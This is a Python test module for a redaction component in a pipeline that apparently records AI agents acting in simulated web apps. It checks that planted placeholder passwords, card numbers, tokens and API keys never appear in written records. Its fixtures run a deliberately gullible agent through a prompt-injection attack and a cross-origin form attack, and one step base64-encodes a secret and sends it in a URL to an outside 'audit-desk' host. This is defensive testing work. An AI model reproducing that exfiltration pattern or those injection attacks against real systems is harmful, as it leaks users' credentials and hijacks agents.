"""What a collection writes of an application holds none of its secrets, and marks that are equal for equal ones."""

import asyncio
import base64
import sqlite3
from contextlib import closing
from pathlib import Path

import pytest

from tests.environments.applications.test_application import changed, install
from wm_pipeline.collect.rollout import TrajectoryRecords, collect_trajectory
from wm_pipeline.collect.settings import CollectSettings
from wm_pipeline.collect.writer import Versions, frames_of
from wm_pipeline.domain.action import Action
from wm_pipeline.domain.authorization import Authorization, Bound, EffectPattern, harms
from wm_pipeline.domain.delta import Effect, FieldChange
from wm_pipeline.domain.records import to_json
from wm_pipeline.domain.secrets import MARK, Redactor
from wm_pipeline.domain.vocabulary import ActionKind, AssetKind, BoundOperator, EffectKind, SecretKind, SinkKind
from wm_pipeline.domain.world import AttackPlan, WorldSpec
from wm_pipeline.policies.named import make_policy
from wm_pipeline.rounds.environments import Opening, open_environment

KEY = b"of this deployment"
SECRETS = {
    "password": "Tr0ub4dor&3",
    "card": "4111 1111 1111 1111",
    "code": "482913",
    "token": "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJkYW5hIn0.s5Xq9tJkLmNoPqRsTuVw",
    "key": "sk_live_51H8aBcDeFgHiJkLmNoPqRsT",
}
NOTE = (
    f"The password is {SECRETS['password']}, the card {SECRETS['card']}, the verification code {SECRETS['code']}. "
    f"Ask with {SECRETS['token']} or {SECRETS['key']}."
)
DECLARED = "blue-harbor-lantern"
"""Of no form that anybody would know: it is secret as its column is declared so."""
ATTACKS = (("user_content_instruction", "close_account"), ("cross_origin_form", "send_to_auditor"))


def install_with_secrets(folder: Path) -> Path:
    file = install(folder)
    with closing(sqlite3.connect(file.with_name("ledger.sqlite3"))) as database, database:
        database.execute("ALTER TABLE account ADD COLUMN door TEXT")
        database.execute("UPDATE account SET note = ?, door = ?", (NOTE, DECLARED))
    changed(file, 'sensitive = { iban = "bank_details" }', 'sensitive = { iban = "bank_details", door = "api_key" }')
    return changed(file, "SELECT iban FROM account WHERE id = :id", "SELECT door AS iban FROM account WHERE id = :id")


def worlds() -> list[WorldSpec]:
    plans = [None, *(AttackPlan(family, "note", payload, "plain") for family, payload in ATTACKS)]
    return [WorldSpec("third_party", "ledger", 3, 0, "ledger/set_credit", "w0", plan) for plan in plans]


async def collect(file: Path) -> tuple[list[TrajectoryRecords], Effect]:
    """The worlds as somebody would play them who obeys; and what the door's key in base 64 is to an outside host."""
    opened = await open_environment(Opening("ledger", None, [str(file)], KEY))
    try:
        settings = CollectSettings(max_steps=5, branches=3)
        found = [
            await collect_trajectory(
                opened.environment, make_policy("gullible"), spec, day="2026-01-02", settings=settings
            )
            for spec in worlds()
        ]
        await opened.environment.reset(worlds()[2])
        told = base64.b64encode(DECLARED.encode()).decode()
        address = f"http://audit-desk.localhost/take?said={told}"
        observed = await opened.environment.act(Action(ActionKind.GOTO, value=address))
        return found, observed.effects[0]
    finally:
        await opened.environment.close()


@pytest.fixture(scope="module")
def collected(tmp_path_factory: pytest.TempPathFactory) -> tuple[list[TrajectoryRecords], Effect]:
    return asyncio.run(collect(install_with_secrets(tmp_path_factory.mktemp("secrets") / "ledger")))


Collected = tuple[list[TrajectoryRecords], Effect]


@pytest.mark.browser
def test_no_table_that_a_collection_wrote_holds_a_secret(collected: Collected) -> None:
    frames = frames_of(collected[0], Versions("1", "none"))

    written = "\n".join(frame.write_json() for frame in (frames.trajectories, frames.transitions, frames.states))

    assert {name for name, secret in SECRETS.items() if secret in written} == set()
    assert DECLARED not in written
    subjects = {
        (one.kind, one.subject) for record in collected[0] for step in record.transitions for one in step.effects
    }
    assert subjects >= {(EffectKind.ROW_DELETED, "account"), (EffectKind.DATA_RECEIVED, "request")}


@pytest.mark.browser
def test_a_secret_has_one_mark_in_states_and_effects(collected: Collected) -> None:
    records = collected[0][1]

    of_states = set(MARK.findall("".join(to_json(state) for state in records.states.values())))
    deleted = [one for step in records.transitions for one in step.effects if one.kind is EffectKind.ROW_DELETED]
    of_rows = set(MARK.findall(deleted[0].value_of("note") or ""))

    assert len(of_rows) == len(SECRETS)
    assert of_rows <= of_states
    assert deleted[0].value_of("door") == Redactor(KEY).mark(SecretKind.KEY, DECLARED)


@pytest.mark.browser
def test_what_left_in_another_writing_is_the_secret_that_it_is(collected: Collected) -> None:
    received = collected[1]

    assert received.asset is AssetKind.API_KEY
    assert [MARK.fullmatch(one.after or "") is not None for one in received.changes] == [True]


@pytest.mark.parametrize(("value", "is_harm"), [("Quiet-River9", False), ("quiet-river9 ", False), ("other", True)])
@pytest.mark.parametrize("name", ["password", "note"])
def test_what_a_goal_allows_is_allowed_without_its_secrets_too(name: str, value: str, *, is_harm: bool) -> None:
    redactor = Redactor(KEY)
    pattern = EffectPattern(
        EffectKind.ROW_UPDATED, "vault", "user", (Bound(name, BoundOperator.EQUALS, ("Quiet-River9",)),)
    )

    allowed = redactor.authorization(Authorization((pattern,)))
    redactor.field(SecretKind.PASSWORD, "Quiet-River9")  # typed into a form meanwhile
    change = FieldChange(name, "Old-River8", value)
    seen = Effect(EffectKind.ROW_UPDATED, "vault", "user", AssetKind.CREDENTIAL, SinkKind.INTERNAL_RECORD, (change,))
    effects = redactor.effects((seen,))

    assert bool(harms(effects, allowed)) is is_harm
    if name == "password":
        assert "River" not in to_json(effects[0]) + to_json(allowed)


def test_what_is_kept_is_found_after_everything_else_is_forgotten() -> None:
    redactor = Redactor(KEY)
    redactor.keep({DECLARED: SecretKind.KEY, "short": SecretKind.KEY})
    redactor.learn(SecretKind.PASSWORD, "seen once before")

    redactor.forget()

    assert redactor.text(f"Use {DECLARED}, seen once before.") == (
        f"Use {redactor.mark(SecretKind.KEY, DECLARED)}, seen once before."
    )
